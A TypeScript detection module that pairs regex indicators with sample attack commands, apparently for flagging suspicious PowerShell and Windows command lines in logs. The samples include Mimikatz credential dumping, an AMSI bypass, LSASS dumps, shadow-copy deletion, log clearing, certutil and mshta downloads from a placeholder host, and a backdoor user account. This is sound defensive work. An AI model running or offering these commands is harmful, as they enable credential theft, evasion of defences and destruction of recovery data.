/**
 * Indicator lists: suspicious PowerShell and command lines. Each indicator is one table entry
 * with its own example, which a test runs, so adding one is an entry and nothing else.
 */
import type { Importance } from '../../insights/index.js';

export interface Indicator {
  readonly label: string;
  readonly pattern: RegExp;
  readonly importance: Importance;
  /** Lower-case literals, one of which every match contains: a cheap test before the regex. */
  readonly keywords: readonly string[];
  /** A text the pattern matches (tests check pattern and keywords agree on it). */
  readonly example: string;
}

/** Script text and command lines alike: what attackers do with PowerShell. */
export const POWERSHELL_INDICATORS: readonly Indicator[] = [
  {
    label: 'Mimikatz',
    pattern: /invoke-mimikatz|sekurlsa::|lsadump::|kerberos::(golden|ptt)|privilege::debug/i,
    importance: 'High',
    keywords: ['mimikatz', 'sekurlsa::', 'lsadump::', 'kerberos::', 'privilege::'],
    example: 'Invoke-Mimikatz -DumpCreds',
  },
  {
    label: 'AMSI bypass',
    pattern: /amsiutils|amsiinitfailed|amsi\.dll|amsiscanbuffer/i,
    importance: 'High',
    keywords: ['amsi'],
    example: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
  },
  {
    label: 'In-memory code execution',
    pattern:
      /virtualalloc|getdelegateforfunctionpointer|invoke-shellcode|invoke-reflectivepeinjection|reflection\.assembly\]::load/i,
    importance: 'High',
    keywords: [
      'virtualalloc',
      'getdelegateforfunctionpointer',
      'invoke-shellcode',
      'invoke-reflectivepeinjection',
      'reflection.assembly]::load',
    ],
    example: '[Reflection.Assembly]::Load($bytes)',
  },
  {
    label: 'LSASS dump',
    pattern: /minidumpwritedump|out-minidump|comsvcs(\.dll)?[\s,]+#?(24|minidump)/i,
    importance: 'High',
    keywords: ['minidump', 'comsvcs'],
    example: 'rundll32 comsvcs.dll, MiniDump 624 C:\\out.dmp full',
  },
  {
    label: 'Defender tampering',
    pattern: /(set|add)-mppreference\b[^\n]{0,200}(disable|exclusion)/i,
    importance: 'High',
    keywords: ['-mppreference'],
    example: 'Set-MpPreference -DisableRealtimeMonitoring $true',
  },
  {
    label: 'Log clearing',
    pattern: /clear-eventlog|remove-eventlog|wevtutil(\.exe)?"?\s+cl\b|\.clear\(\)[^\n]{0,40}eventlog/i,
    importance: 'High',
    keywords: ['clear-eventlog', 'remove-eventlog', 'wevtutil', '.clear()'],
    example: 'Clear-EventLog -LogName Security',
  },
  {
    label: 'WMI event subscription',
    pattern:
      /__EventFilter|__EventConsumer|CommandLineEventConsumer|ActiveScriptEventConsumer|Register-WmiEvent|MaliciousWmiEvent/i,
    importance: 'High',
    keywords: [
      '__eventfilter',
      '__eventconsumer',
      'commandlineeventconsumer',
      'activescripteventconsumer',
      'register-wmievent',
      'maliciouswmievent',
    ],
    example: 'Set-WmiInstance -Class __EventFilter -Namespace root\\subscription',
  },
  {
    label: 'Shadow copies deleted',
    pattern: /win32_shadowcopy[^\n]{0,120}delete|vssadmin[^\n]{0,40}delete\s+shadows/i,
    importance: 'High',
    keywords: ['win32_shadowcopy', 'vssadmin'],
    example: 'Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }',
  },
  {
    label: 'Firewall disabled',
    pattern: /set-netfirewallprofile[^\n]{0,120}-enabled\s+(false|0)\b/i,
    importance: 'High',
    keywords: ['set-netfirewallprofile'],
    example: 'Set-NetFirewallProfile -Profile Domain -Enabled False',
  },
  {
    label: 'Service created',
    pattern: /\bnew-service\b/i,
    importance: 'Medium',
    keywords: ['new-service'],
    example: 'New-Service -Name upd -BinaryPathName C:\\ProgramData\\upd.exe',
  },
  {
    label: 'Base64 decoding',
    pattern: /frombase64string/i,
    importance: 'Medium',
    keywords: ['frombase64string'],
    example: '[Convert]::FromBase64String($s)',
  },
  {
    label: 'Download cradle',
    pattern: /net\.webclient|downloadstring|downloadfile|invoke-webrequest|start-bitstransfer|\biwr\s+http/i,
    importance: 'Medium',
    keywords: [
      'net.webclient',
      'downloadstring',
      'downloadfile',
      'invoke-webrequest',
      'start-bitstransfer',
      'iwr',
    ],
    example: "(New-Object Net.WebClient).DownloadString('http://x/a')",
  },
  {
    label: 'Encoded command',
    pattern: /\s-(e|ec|en|enc|enco|encod|encode|encoded|encodedcommand)\s+[a-z0-9+/=]{16,}/i,
    importance: 'Medium',
    keywords: ['-e'],
    example: 'powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0A',
  },
  {
    label: 'Invoke-Expression',
    pattern: /\b(iex|invoke-expression)\b/i,
    importance: 'Low',
    keywords: ['iex', 'invoke-expression'],
    example: 'IEX $code',
  },
  {
    label: 'Hidden window',
    pattern: /\s-w(i|in|ind|indo|indow|indows|indowst|indowsty|indowstyl|indowstyle)?\s+h(idden)?\b/i,
    importance: 'Low',
    keywords: ['-w'],
    example: 'powershell.exe -w hidden -c calc',
  },
];

/** Command lines that say what they do. */
export const COMMAND_LINE_INDICATORS: readonly Indicator[] = [
  {
    label: 'Mimikatz',
    pattern: /sekurlsa::|lsadump::|kerberos::golden|privilege::debug/i,
    importance: 'High',
    keywords: ['sekurlsa::', 'lsadump::', 'kerberos::', 'privilege::'],
    example: 'm.exe privilege::debug sekurlsa::logonpasswords exit',
  },
  {
    label: 'Shadow copies deleted',
    pattern: /(vssadmin|wmic)(\.exe)?"?\b.{0,80}shadow(copy|s)?\b.{0,40}delete|delete\s+shadows/i,
    importance: 'High',
    keywords: ['shadow'],
    example: 'vssadmin.exe delete shadows /all /quiet',
  },
  {
    label: 'Boot recovery disabled',
    pattern: /bcdedit(\.exe)?"?\b.{0,80}(recoveryenabled\s+no|ignoreallfailures)/i,
    importance: 'High',
    keywords: ['bcdedit'],
    example: 'bcdedit /set {default} recoveryenabled no',
  },
  {
    label: 'Event log cleared',
    pattern: /wevtutil(\.exe)?"?\s+(cl|clear-log)\b/i,
    importance: 'High',
    keywords: ['wevtutil'],
    example: '"C:\\Windows\\system32\\wevtutil.exe"  cl Security',
  },
  {
    label: 'Registry hive saved',
    pattern: /reg(\.exe)?"?\s+save\s+hklm\\(sam|security|system)\b/i,
    importance: 'High',
    keywords: ['save'],
    example: 'reg save HKLM\\SAM C:\\temp\\sam.hiv',
  },
  {
    label: 'NTDS database copied',
    pattern: /ntdsutil(\.exe)?"?\b.{0,120}\b(ifm|create\s+full)\b/i,
    importance: 'High',
    keywords: ['ntdsutil'],
    example: 'ntdsutil "ac i ntds" "ifm" "create full C:\\temp" q q',
  },
  {
    label: 'LSASS dump',
    pattern: /(procdump(64)?(\.exe)?"?\s.{0,40}lsass|comsvcs(\.dll)?[\s,]+#?(24|minidump))/i,
    importance: 'High',
    keywords: ['lsass', 'comsvcs'],
    example: 'procdump64.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp',
  },
  {
    label: 'Certutil download or decode',
    pattern: /certutil(\.exe)?"?\b.{0,80}(-urlcache|\/urlcache|-decode|\/decode|-verifyctl)/i,
    importance: 'High',
    keywords: ['certutil'],
    example: 'certutil.exe -urlcache -split -f http://x/a.exe a.exe',
  },
  {
    label: 'Mshta remote script',
    pattern: /mshta(\.exe)?"?\b.{0,40}(https?:|javascript:|vbscript:)/i,
    importance: 'High',
    keywords: ['mshta'],
    example: 'mshta.exe http://x/a.hta',
  },
  {
    label: 'Regsvr32 scriptlet',
    pattern: /regsvr32(\.exe)?"?\b.{0,120}(\/i:\s*https?:|scrobj)/i,
    importance: 'High',
    keywords: ['regsvr32'],
    example: 'regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll',
  },
  {
    label: 'Rundll32 proxy execution',
    pattern:
      /rundll32(\.exe)?"?\b.{0,120}(javascript:|url\.dll,|shdocvw(\.dll)?,|zipfldr(\.dll)?,|advpack(\.dll)?,|pcwutl(\.dll)?,)/i,
    importance: 'High',
    keywords: ['rundll32'],
    example: 'rundll32.exe url.dll,OpenURL C:\\a.hta',
  },
  {
    label: 'Firewall or port proxy change',
    pattern: /netsh(\.exe)?"?\b.{0,80}(portproxy|state\s+off|opmode\s+(mode=)?disable)/i,
    importance: 'High',
    keywords: ['netsh'],
    example: 'netsh interface portproxy add v4tov4 listenport=443 connectport=3389 connectaddress=10.0.0.5',
  },
  {
    label: 'Remote execution output (Impacket)',
    pattern: /\\\\127\.0\.0\.1\\(ADMIN|C)\$\\__\d/i,
    importance: 'High',
    keywords: ['127.0.0.1'],
    example: 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1',
  },
  {
    label: 'BITS job via bitsadmin',
    pattern: /bitsadmin(\.exe)?"?\b.{0,80}\/(transfer|addfile|setnotifycmdline)/i,
    importance: 'Medium',
    keywords: ['bitsadmin'],
    example: 'bitsadmin /transfer j http://x/a.exe C:\\a.exe',
  },
  {
    label: 'Scheduled task via schtasks',
    pattern: /schtasks(\.exe)?"?\b.{0,20}\/create\b/i,
    importance: 'Medium',
    keywords: ['schtasks'],
    example: 'schtasks /create /tn upd /tr C:\\a.exe /sc onlogon',
  },
  {
    label: 'Service change via sc',
    pattern: /\bsc(\.exe)?"?\s+(\\\\\S+\s+)?(create|config|failure)\b/i,
    importance: 'Medium',
    keywords: ['create', 'config', 'failure'],
    example: 'sc.exe \\\\srv01 create evil binPath= C:\\a.exe',
  },
  {
    label: 'Autostart change via reg',
    pattern: /reg(\.exe)?"?\s+(add|import)\b.{0,200}\\(run|runonce|winlogon|image file execution options)\b/i,
    importance: 'Medium',
    keywords: ['reg'],
    example: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\a.exe',
  },
  {
    label: 'Account change via net',
    pattern: /\bnet1?(\.exe)?"?\s+(user|localgroup|group)\b.{0,120}\s\/add\b/i,
    importance: 'Medium',
    keywords: ['/add'],
    example: 'net user backdoor P@ssw0rd! /add',
  },
  {
    label: 'Whoami',
    pattern: /(^|[\\\s"])whoami(\.exe)?\b/i,
    importance: 'Low',
    keywords: ['whoami'],
    example: 'whoami /all',
  },
];

/** One pass over the text finds which keywords occur; only their indicators' patterns run. */
interface KeywordIndex {
  readonly finder: RegExp;
  readonly byKeyword: ReadonlyMap<string, readonly Indicator[]>;
}

const indexes = new WeakMap<readonly Indicator[], KeywordIndex>();

function indexOf(list: readonly Indicator[]): KeywordIndex {
  let index = indexes.get(list);
  if (index === undefined) {
    const byKeyword = new Map<string, Indicator[]>();
    for (const i of list) for (const k of i.keywords) byKeyword.set(k, [...(byKeyword.get(k) ?? []), i]);
    // Longest first; each search restarts one character after the last match's start, so
    // keywords that overlap are all found (a lookahead, as zero-width, made each try 2× slower).
    const alternatives = [...byKeyword.keys()]
      .sort((a, b) => b.length - a.length)
      .map((k) => k.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&'));
    index = { finder: new RegExp(`(${alternatives.join('|')})`, 'gi'), byKeyword };
    indexes.set(list, index);
  }
  return index;
}

/** Every indicator whose pattern occurs in `text` (scanned up to `limit` characters). */
export function matchIndicators(text: string, list: readonly Indicator[], limit = 65_536): Indicator[] {
  const t = text.length > limit ? text.slice(0, limit) : text;
  const { finder, byKeyword } = indexOf(list);
  const candidates = new Set<Indicator>();
  finder.lastIndex = 0;
  for (let m = finder.exec(t); m !== null; m = finder.exec(t)) {
    for (const i of byKeyword.get(m[1]!.toLowerCase()) ?? []) candidates.add(i);
    finder.lastIndex = m.index + 1;
  }
  return candidates.size === 0 ? [] : list.filter((i) => candidates.has(i) && i.pattern.test(t));
}
